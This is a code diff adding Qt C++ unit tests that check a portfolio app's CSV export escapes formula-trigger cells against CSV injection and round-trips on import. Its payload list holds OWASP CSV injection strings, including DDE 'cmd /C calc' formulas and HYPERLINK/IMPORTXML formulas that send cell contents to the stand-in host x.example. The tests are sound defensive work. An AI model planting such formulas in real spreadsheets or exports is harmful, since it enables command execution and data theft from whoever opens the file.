@@ -7,6 +7,8 @@
 #include "exporttestsupport.h"
 #include "model/documentwriter.h"
 
+#include <QRegularExpression>
+
 using namespace rb::exporting;
 using namespace rb::exporting::test;
 using rb::model::Portfolio;
@@ -233,7 +235,127 @@ private slots:
         QVERIFY(p == m_portfolio);
     }
 
+    // CSV injection (CWE-1236): a text cell that starts with a formula trigger gets an apostrophe, one
+    // that starts with an apostrophe one more; import takes exactly one off.
+    void formulaProtection()
+    {
+        QCOMPARE(protectCell(QStringLiteral("=1+1")), QStringLiteral("'=1+1"));
+        QCOMPARE(protectCell(QStringLiteral("\t=1")), QStringLiteral("'\t=1"));
+        QCOMPARE(protectCell(QStringLiteral("'quoted")), QStringLiteral("''quoted"));
+        QCOMPARE(protectCell(QStringLiteral("plain = text")), QStringLiteral("plain = text"));
+        QCOMPARE(protectCell(QString()), QString());
+        QCOMPARE(unprotectCell(QStringLiteral("''quoted")), QStringLiteral("'quoted"));
+        QCOMPARE(unprotectCell(QStringLiteral("no apostrophe")), QStringLiteral("no apostrophe"));
+        for (const QString &s : owaspPayloads() + QStringList{"'", "''", "'=x", "x'", "a-b", "-", "@"}) {
+            QCOMPARE(unprotectCell(protectCell(s)), s);
+            QVERIFY2(!startsWithFormulaTrigger(protectCell(s)), qPrintable(s));
+        }
+    }
+
+    // The OWASP payloads in every text field of risks, assessments and posts: the written file never
+    // starts a cell with a trigger (only a number column may start with '-', and then holds a number),
+    // and importing it gives the document back, byte for byte.
+    void owaspPayloadsRoundTrip_data()
+    {
+        QTest::addColumn<CsvTableKind>("table");
+        QTest::addColumn<QChar>("delimiter");
+        QTest::newRow("risks ;") << CsvTableKind::Risks << QChar(';');
+        QTest::newRow("risks ,") << CsvTableKind::Risks << QChar(',');
+        QTest::newRow("risks tab") << CsvTableKind::Risks << QChar('\t');
+        QTest::newRow("assessments ;") << CsvTableKind::Assessments << QChar(';');
+        QTest::newRow("assessments ,") << CsvTableKind::Assessments << QChar(',');
+        QTest::newRow("posts ;") << CsvTableKind::Posts << QChar(';');
+    }
+
+    void owaspPayloadsRoundTrip()
+    {
+        QFETCH(CsvTableKind, table);
+        QFETCH(QChar, delimiter);
+        const Portfolio original = injectionPortfolio();
+        const CsvFormat format{delimiter, false};
+        const QByteArray csv = exportCsv(original, table, format);
+        const CsvTable written = readCsv(csv, delimiter);
+        QVERIFY(written.errors.isEmpty());
+        const TypedTable typed = typedTable(original, table, format);
+        static const QRegularExpression number(QStringLiteral("^-?\\d+(\\.\\d+)?$"));
+        int protectedCells = 0;
+        for (int r = 1; r < written.rows.size(); ++r) {
+            for (int c = 0; c < written.rows[r].size(); ++c) {
+                const QString &cell = written.rows[r][c];
+                if (cell.startsWith(QLatin1Char('\''))) ++protectedCells;
+                if (!startsWithFormulaTrigger(cell)) continue;
+                QVERIFY2(typed.types[c] == CellType::Number && number.match(cell).hasMatch(),
+                         qPrintable(QStringLiteral("row %1 column %2: %3").arg(r + 1).arg(typed.header[c], cell)));
+            }
+        }
+        QVERIFY(protectedCells >= owaspPayloads().size()); // the payloads really are in the file
+        if (table == CsvTableKind::Posts) return; // export only
+        Portfolio imported = original;
+        if (table == CsvTableKind::Risks) imported.risks.clear();
+        else imported.assessments.clear();
+        const QList<CsvError> errors = importCsv(imported, table, csv, format);
+        for (const CsvError &e : errors) qWarning() << e.row << e.column << e.message;
+        QVERIFY(errors.isEmpty());
+        QVERIFY(imported == original);
+        QCOMPARE(rb::model::DocumentWriter::toJson(imported), rb::model::DocumentWriter::toJson(original));
+    }
+
 private:
+    // OWASP's CSV injection examples (owasp.org/www-community/attacks/CSV_Injection) and the issue's
+    // own, plus texts a user may type: leading apostrophes, a negative-looking number as text.
+    static QStringList owaspPayloads()
+    {
+        return {QStringLiteral("=cmd|' /C calc'!A0"),
+                QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"),
+                QStringLiteral("+cmd|' /C calc'!A0"),
+                QStringLiteral("-2+3+cmd|' /C calc'!A0"),
+                QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
+                QStringLiteral("=1+2\";=1+2"),
+                QStringLiteral("=1+2'\" ;,=1+2"),
+                QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
+                QStringLiteral("=IMPORTXML(CONCAT(\"http://x.example/?v=\", CONCATENATE(A2:E2)), \"//a\")"),
+                QStringLiteral("\t=1+2"),
+                QStringLiteral("\r=1+2"),
+                QStringLiteral("'=1+2"),
+                QStringLiteral("''twice"),
+                QStringLiteral("-42")};
+    }
+
+    // The shipped portfolio with a risk, an assessment and a post per payload, the payload in every
+    // free-text field (and in list items and history records, so whole encoded cells start with it).
+    Portfolio injectionPortfolio() const
+    {
+        Portfolio p = m_portfolio;
+        const QStringList payloads = owaspPayloads();
+        for (int i = 0; i < payloads.size(); ++i) {
+            const QString &x = payloads[i];
+            rb::model::Risk r;
+            r.id = QStringLiteral("R-OWASP-%1").arg(i + 1);
+            r.title = x;
+            r.level = rb::model::RiskLevel::Project;
+            r.cause = r.event = r.effect = r.owner = r.mitigation = r.note = x;
+            r.history = {{QDate(2019, 1, 2), x, x}};
+            r.sources = {{QString(), x, x}};
+            p.risks << r;
+            rb::model::Assessment a;
+            a.post = p.posts.first().id;
+            a.date = QDate(2019, 1, 1 + i);
+            a.assessor = a.note = x;
+            a.scores = {{p.successFactors.first().id, {3, x, x}}};
+            p.assessments << a;
+            rb::model::Post post = p.posts.first();
+            post.id = QStringLiteral("OWASP%1").arg(i + 1);
+            post.title = post.owner = post.contractor = post.projectLeader = post.result = post.goal = post.note = x;
+            post.tags = {x};
+            post.activities = {x, x};
+            rb::model::Budget budget;
+            budget.oneOff.proposed = -12.5; // a saving: a negative number stays a number
+            post.budget = budget;
+            p.posts << post;
+        }
+        return p;
+    }
+
     // Values that stress the encodings: separators, escapes, line breaks, quotes, empty lists, an
     // assessment without scores, a risk with several sources.
     Portfolio trickyPortfolio() const
